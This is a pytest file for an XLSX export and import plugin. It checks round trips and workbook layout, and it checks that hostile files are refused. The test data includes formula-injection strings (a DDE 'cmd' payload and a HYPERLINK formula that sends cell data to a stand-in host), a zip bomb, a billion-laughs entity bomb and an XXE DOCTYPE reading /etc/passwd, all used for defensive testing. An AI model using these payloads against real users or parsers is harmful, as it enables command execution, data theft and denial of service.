"""The XLSX exporter and importer: round trips, the workbook's shape, and hostile input."""

from __future__ import annotations

import datetime
import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import attrs
import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from oas_program_xlsx import plugin, reader
from oas_program_xlsx.reader import read_workbook
from oas_program_xlsx.sheets import COVER, MAX_SHEET_NAME, sheet_name, sheet_tables
from oas_program_xlsx.workbook import FIXED_DATE, XlsxWriteError, check_program, workbook_bytes
from tests.strategies import programs

from oas_program import default_program
from oas_program.cli import cli
from oas_program.errors import DataError, ExitCode
from oas_program.files.canonical import dumps
from oas_program.model import Program
from oas_program.model.convert import program_from_data, program_to_data
from oas_program.model.tables import layout, table
from oas_program.plugins.host import PluginHost

FORMULA_LIKE = ("=SUM(A1)", '=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3")


def _read(data: bytes, name: str = "x.xlsx") -> Program:
    return read_workbook(data, name).program


def _problems(data: bytes, name: str = "x.xlsx") -> tuple[DataError, list[str]]:
    with pytest.raises(DataError) as caught:
        read_workbook(data, name)
    return caught.value, [str(p) for p in caught.value.problems]


def _edit(data: bytes, change: Any) -> bytes:
    """The workbook after *change(workbook)*, saved by openpyxl as a user's tool would."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    change(wb)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _rezip(data: bytes, members: dict[str, bytes]) -> bytes:
    """The archive with *members* added or replaced."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename not in members:
                target.writestr(info, source.read(info))
        for name, content in members.items():
            target.writestr(name, content)
    return buffer.getvalue()


def _letter(ws: Any, column: str) -> str:
    header = [cell.value for cell in ws[1]]
    return openpyxl.utils.get_column_letter(header.index(column) + 1)


def _with_summary(program: Program, index: int, text: str) -> Program:
    activities = list(program.activities)
    activity = activities[index]
    activities[index] = attrs.evolve(activity, summary=attrs.evolve(activity.summary, en=text))
    return attrs.evolve(program, activities=tuple(activities))


@pytest.fixture(scope="module")
def embedded_xlsx() -> bytes:
    return workbook_bytes(default_program())


def _run(*args: str) -> Any:
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


# ---- round trips --------------------------------------------------------------------------


def test_embedded_program_reads_back_equal(embedded_xlsx: bytes) -> None:
    assert _read(embedded_xlsx) == default_program()


_ILLEGAL = re.compile("[\x00-\x08\x0b-\x1f\ufffe\uffff]")


def _storable(program: Program) -> Program:
    """*program* with the characters XLSX refuses replaced (they are tested on their own)."""

    def clean(value: Any) -> Any:
        if isinstance(value, str):
            return _ILLEGAL.sub("?", value)
        if isinstance(value, dict):
            return {key: clean(item) for key, item in value.items()}
        if isinstance(value, list):
            return [clean(item) for item in value]
        return value

    return program_from_data(clean(program_to_data(program)))


@settings(max_examples=25)
@given(programs)
def test_any_program_round_trips(program: Program) -> None:
    program = _storable(program)
    assert _read(workbook_bytes(program)) == program


def test_cli_export_then_convert_gives_the_embedded_program(tmp_path: Path) -> None:
    target = tmp_path / "program.xlsx"
    result = _run("export", "--format", "xlsx", "-o", str(target))
    assert result.exit_code == 0, result.stderr
    assert target.read_bytes()[:4] == b"PK\x03\x04"
    back = tmp_path / "back.json"
    result = _run("convert", str(target), str(back))
    assert result.exit_code == 0, result.stderr
    assert back.read_text(encoding="utf-8") == dumps(default_program())


def test_installed_plugin_provides_both_directions() -> None:
    host = PluginHost()
    exporter = host.exporter("xlsx")
    assert exporter.lossless and exporter.binary and exporter.suffix == ".xlsx"
    assert ".xlsx" in host.importer("xlsx").suffixes
    result = _run("formats")
    assert re.search(r"^xlsx\s+export", result.stdout, re.M)
    assert re.search(r"^xlsx\s+import", result.stdout, re.M)


def test_loading_the_plugin_imports_no_openpyxl() -> None:
    code = (
        "import sys, oas_program_xlsx.plugin as p; p.oas_program_exporters(); "
        "p.oas_program_importers(); print('openpyxl' in sys.modules)"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"


# ---- the workbook -------------------------------------------------------------------------


def test_same_program_gives_identical_bytes(embedded_xlsx: bytes) -> None:
    assert workbook_bytes(default_program()) == embedded_xlsx
    with zipfile.ZipFile(io.BytesIO(embedded_xlsx)) as archive:
        infos = archive.infolist()
        core = archive.read("docProps/core.xml").decode()
    assert infos[0].filename == "[Content_Types].xml"
    assert {info.date_time for info in infos} == {(2005, 6, 7, 0, 0, 0)}
    assert core.count(FIXED_DATE.strftime("%Y-%m-%dT%H:%M:%SZ")) == 2


def test_sheet_names_are_valid_unique_and_reversible() -> None:
    names = [sheet_name(t.name) for t in layout()]
    assert all(0 < len(name) <= MAX_SHEET_NAME for name in names)
    assert not any(set(name) & set("[]:*?/\\") for name in names)
    assert len({name.casefold() for name in [*names, COVER]}) == len(names) + 1
    assert sheet_tables() == {sheet_name(t.name): t.name for t in layout()}
    assert sheet_tables()["Actors_memberships_notes_source"] == "actors_memberships_notes_sources"


def test_cover_sheet_then_one_sheet_per_table(embedded_xlsx: bytes) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(embedded_xlsx))
    program = default_program()
    assert wb.sheetnames == [COVER, *(sheet_name(t.name) for t in layout())]
    cover = wb[COVER]
    assert cover["A1"].value == program.title.en
    listed = {
        row[0]: row[1] for row in cover.iter_rows(values_only=True) if row[0] in sheet_tables()
    }
    assert listed == sheet_tables()
    text = " ".join(str(v) for row in cover.iter_rows(values_only=True) for v in row if v)
    assert "summaries" in text and program.format_version in text


def test_table_sheets_have_frozen_bold_headers_widths_filters_and_dropdowns(
    embedded_xlsx: bytes,
) -> None:
    wb = openpyxl.load_workbook(io.BytesIO(embedded_xlsx))
    ws = wb[sheet_name("activities")]
    assert [c.value for c in ws[1]] == list(table("activities").column_names)
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{_letter(ws, 'added_resolution')}{ws.max_row}"
    widths = [d.width for d in ws.column_dimensions.values()]
    assert widths and all(10 <= w <= 60 for w in widths)
    lists = {str(dv.sqref): dv.formula1 for dv in ws.data_validations.dataValidation}
    letter = _letter(ws, "addressee")
    assert lists[f"{letter}2:{letter}1048576"] == '"oas,member-states,multilateral,civil-society"'
    assert isinstance(ws[f"{_letter(ws, 'added')}2"].value, bool)


def test_formula_like_strings_stay_strings() -> None:
    program = default_program()
    for index, text in enumerate(FORMULA_LIKE):
        program = _with_summary(program, index, text)
    data = workbook_bytes(program)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        xml = {name: archive.read(name).decode() for name in sheets}
    assert not any("<f>" in part or "<f " in part for part in xml.values())
    assert any('t="inlineStr"><is><t>=SUM(A1)</t>' in part for part in xml.values())
    assert _read(data) == program


# ---- values a workbook cannot hold (EX5) --------------------------------------------------


def test_illegal_character_is_a_located_error_and_nothing_is_written(tmp_path: Path) -> None:
    program = _with_summary(default_program(), 7, "before\x0bafter")
    source = tmp_path / "bad.json"
    source.write_text(dumps(program), encoding="utf-8")
    target = tmp_path / "x.xlsx"
    target.write_bytes(b"previous workbook")
    result = _run("export", str(source), "--format", "xlsx", "-o", str(target))
    assert result.exit_code == ExitCode.OUTPUT_FAILED
    assert (
        "activities[7].summary.en: character U+000B not allowed in XLSX [xlsx-illegal-char]"
        in result.stderr
    )
    assert target.read_bytes() == b"previous workbook"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.json", "x.xlsx"]


def test_every_unstorable_value_is_reported() -> None:
    program = _with_summary(default_program(), 0, "bell\x07")
    program = _with_summary(program, 1, "line\r\nbreak")
    program = _with_summary(program, 2, "x" * 32_768)
    program = _with_summary(program, 3, "\U0001f600" * 16_384)  # 32,768 UTF-16 units
    found = [(p.path, p.code) for p in check_program(program)]
    assert found == [
        ("activities[0].summary.en", "xlsx-illegal-char"),
        ("activities[1].summary.en", "xlsx-illegal-char"),
        ("activities[2].summary.en", "xlsx-cell-too-long"),
        ("activities[3].summary.en", "xlsx-cell-too-long"),
    ]
    with pytest.raises(XlsxWriteError) as caught:
        workbook_bytes(program)
    assert caught.value.exit_code == ExitCode.OUTPUT_FAILED
    assert "U+000D (carriage return" in str(caught.value)
    # The largest cell Excel holds is written whole, not truncated.
    longest = _with_summary(default_program(), 0, "y" * 32_767)
    assert _read(workbook_bytes(longest)) == longest


# ---- hostile or unsupported files ---------------------------------------------------------


def test_defusedxml_is_what_openpyxl_parses_with() -> None:
    assert openpyxl.xml.DEFUSEDXML is True


def test_zip_bomb_is_refused_before_openpyxl_reads_it(monkeypatch: pytest.MonkeyPatch) -> None:
    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("load_workbook must not be reached")

    monkeypatch.setattr(openpyxl, "load_workbook", never)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as member:
            for _ in range(50):
                member.write(b" " * (1024 * 1024))
    data = buffer.getvalue()
    assert len(data) < 100_000
    error, lines = _problems(data)
    assert error.exit_code == ExitCode.UNREADABLE
    assert len(lines) == 1
    assert re.fullmatch(
        r"x\.xlsx: xl/worksheets/sheet1\.xml would expand to 50 MiB "
        r"\(ratio \d{3,4}:1 > 100:1\) \[zip-bomb\]",
        lines[0],
    )


def test_total_expansion_is_capped(embedded_xlsx: bytes) -> None:
    limits = reader.ArchiveLimits(max_total=100_000)
    with pytest.raises(DataError) as caught:
        read_workbook(embedded_xlsx, "x.xlsx", limits)
    assert caught.value.problems[0].code == "zip-bomb"


_BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b"<si><t>&lol2;</t></si></sst>"
)


def test_xml_entity_bomb_is_refused(embedded_xlsx: bytes) -> None:
    data = _rezip(embedded_xlsx, {"xl/sharedStrings.xml": _BILLION_LAUGHS})
    error, lines = _problems(data)
    assert lines == ["x.xlsx: forbidden XML entity in xl/sharedStrings.xml [xml-entity]"]
    assert error.exit_code == ExitCode.UNREADABLE
    utf16 = _rezip(
        embedded_xlsx, {"xl/sharedStrings.xml": _BILLION_LAUGHS.decode().encode("utf-16")}
    )
    assert _problems(utf16)[1] == lines


def test_openpyxl_refuses_entities_too_when_the_scan_is_bypassed(
    embedded_xlsx: bytes, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reader, "_scan_member", lambda *args: None)
    with zipfile.ZipFile(io.BytesIO(embedded_xlsx)) as archive:
        workbook_xml = archive.read("xl/workbook.xml")
    doctype = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    data = _rezip(embedded_xlsx, {"xl/workbook.xml": doctype + workbook_xml})
    _, lines = _problems(data)
    assert len(lines) == 1 and lines[0].endswith("[xml-entity]")


def test_formula_cell_is_refused_at_its_cell(embedded_xlsx: bytes) -> None:
    def add_formula(wb: Any) -> None:
        wb[sheet_name("activities")]["C7"] = "=SUM(B2:B9)"

    error, lines = _problems(_edit(embedded_xlsx, add_formula))
    assert lines == ["x.xlsx[Activities!C7]: formula cells not accepted [formula-cell]"]
    assert error.exit_code == ExitCode.UNREADABLE


def test_csv_renamed_xlsx_is_a_format_mismatch(tmp_path: Path) -> None:
    csv = b"id,title\nACT-1,Training\n"
    assert _problems(csv)[1] == [
        "x.xlsx: not an XLSX (ZIP) file; content looks like CSV [format-mismatch]"
    ]
    source = tmp_path / "x.xlsx"
    source.write_bytes(csv)
    result = _run("convert", str(source), str(tmp_path / "out.json"))
    assert result.exit_code == ExitCode.UNREADABLE
    assert "[format-mismatch]" in result.stderr
    assert not (tmp_path / "out.json").exists()


def test_encrypted_or_legacy_workbook_is_unsupported(tmp_path: Path) -> None:
    ole2 = plugin.OLE2_MAGIC + bytes(504)
    source = tmp_path / "x.xlsx"
    source.write_bytes(ole2)
    result = _run("convert", str(source), str(tmp_path / "out.json"))
    assert result.exit_code == ExitCode.UNREADABLE
    assert re.search(
        r"x\.xlsx: unsupported workbook: encrypted .* \[xlsx-unsupported\]", result.stderr
    )


def test_macro_enabled_workbook_is_unsupported(embedded_xlsx: bytes, tmp_path: Path) -> None:
    with_vba = _rezip(embedded_xlsx, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macros"})
    source = tmp_path / "x.xlsm"
    source.write_bytes(with_vba)
    result = _run("convert", str(source), str(tmp_path / "out.json"))
    assert result.exit_code == ExitCode.UNREADABLE
    assert "x.xlsm: unsupported workbook: macro-enabled (VBA project) [xlsx-unsupported]" in (
        result.stderr
    )
    with zipfile.ZipFile(io.BytesIO(embedded_xlsx)) as archive:
        types = archive.read("[Content_Types].xml")
    macro_type = types.replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
    )
    assert macro_type != types
    assert _problems(_rezip(embedded_xlsx, {"[Content_Types].xml": macro_type}))[1] == [
        "x.xlsx: unsupported workbook: macro-enabled [xlsx-unsupported]"
    ]


def test_empty_and_damaged_files_are_refused(embedded_xlsx: bytes) -> None:
    assert _problems(b"")[1] == ["x.xlsx: empty file; expected an XLSX workbook [empty]"]
    error, _ = _problems(embedded_xlsx[: len(embedded_xlsx) // 2])
    assert error.exit_code == ExitCode.UNREADABLE
    assert [p.code for p in error.problems] == ["zip-corrupt"]


def test_zip_that_is_not_a_workbook_is_a_format_mismatch() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("notes.txt", "hello")
    assert _problems(buffer.getvalue())[0].problems[0].code == "format-mismatch"


# ---- cells a user may have edited ---------------------------------------------------------


def test_wrong_codelist_value_is_located_at_its_cell(embedded_xlsx: bytes) -> None:
    letter = ""

    def change(wb: Any) -> None:
        nonlocal letter
        ws = wb[sheet_name("activities")]
        letter = _letter(ws, "addressee")
        ws[f"{letter}5"] = "everyone"

    error, _ = _problems(_edit(embedded_xlsx, change))
    assert error.exit_code == ExitCode.INVALID
    (problem,) = error.problems
    assert (problem.file, problem.place, problem.code) == (
        "x.xlsx",
        f"Activities!{letter}5",
        "codelist",
    )


def test_blank_rows_are_skipped_and_places_stay_right(embedded_xlsx: bytes) -> None:
    def change(wb: Any) -> None:
        wb[sheet_name("activities")].insert_rows(3, amount=2)

    assert _read(_edit(embedded_xlsx, change)) == default_program()

    letters: list[str] = []

    def change_and_break(wb: Any) -> None:
        change(wb)
        ws = wb[sheet_name("activities")]
        letters.append(_letter(ws, "addressee"))
        ws[f"{letters[0]}7"] = "nobody"

    error, _ = _problems(_edit(embedded_xlsx, change_and_break))
    assert [p.place for p in error.problems] == [f"Activities!{letters[0]}7"]


def test_hidden_sheets_are_read_like_visible_ones(embedded_xlsx: bytes) -> None:
    def hide(wb: Any) -> None:
        wb[sheet_name("sources")].sheet_state = "hidden"
        wb[sheet_name("activities_sources")].sheet_state = "veryHidden"

    assert _read(_edit(embedded_xlsx, hide)) == default_program()


def test_merged_unknown_and_missing_sheets_are_errors(embedded_xlsx: bytes) -> None:
    def change(wb: Any) -> None:
        wb[sheet_name("meetings")].merge_cells("B3:C3")
        wb.create_sheet("Scratch")
        del wb[sheet_name("meetings_sources")]

    error, _ = _problems(_edit(embedded_xlsx, change))
    assert error.exit_code == ExitCode.UNREADABLE
    assert [(p.place, p.code) for p in error.problems] == [
        ("Meetings!B3:C3", "merged-cell"),
        ("Scratch", "unknown-sheet"),
        ("Meetings_sources", "missing-sheet"),
    ]


def test_header_and_stray_cell_problems_are_located(embedded_xlsx: bytes) -> None:
    def change(wb: Any) -> None:
        ws = wb[sheet_name("sources")]
        ws["B1"] = "kinds"
        ws.cell(row=4, column=ws.max_column + 2).value = "stray"

    error, _ = _problems(_edit(embedded_xlsx, change))
    found = [(p.place, p.code) for p in error.problems]
    assert ("Sources!B1", "unknown-column") in found
    assert ("Sources!1:1", "missing-label") in found
    assert any(code == "extra-cell" and place.endswith("4") for place, code in found)


def test_date_cells_become_iso_text_and_numbers_in_text_columns_are_errors(
    embedded_xlsx: bytes,
) -> None:
    def typed_date(wb: Any) -> None:
        ws = wb[sheet_name("meetings")]
        # What Excel stores when "2006-03-16" is typed into a cell formatted General.
        start = datetime.date.fromisoformat(default_program().meetings[0].start or "")
        ws[f"{_letter(ws, 'start')}2"] = datetime.datetime.combine(start, datetime.time())

    assert _read(_edit(embedded_xlsx, typed_date)) == default_program()

    letter = ""

    def number(wb: Any) -> None:
        nonlocal letter
        ws = wb[sheet_name("meetings")]
        letter = _letter(ws, "start")
        ws[f"{letter}3"] = 1.5

    error, lines = _problems(_edit(embedded_xlsx, number))
    assert error.exit_code == ExitCode.INVALID
    assert lines == [f"x.xlsx[Meetings!{letter}3]: expected text, got the number 1.5 [type-error]"]
